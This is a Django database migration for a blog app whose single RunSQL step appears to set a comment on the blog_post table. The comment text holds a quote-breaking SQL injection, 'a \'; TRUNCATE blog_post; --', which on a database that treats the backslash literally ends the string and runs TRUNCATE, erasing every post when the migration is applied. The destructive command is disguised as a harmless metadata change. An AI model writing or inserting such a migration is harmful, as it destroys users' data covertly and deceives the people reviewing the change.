from django.db import migrations


class Migration(migrations.Migration):
    dependencies = [("blog", "0001_initial")]

    operations = [
        migrations.RunSQL(r"COMMENT ON TABLE blog_post IS 'a \'; TRUNCATE blog_post; --'", ""),
    ]
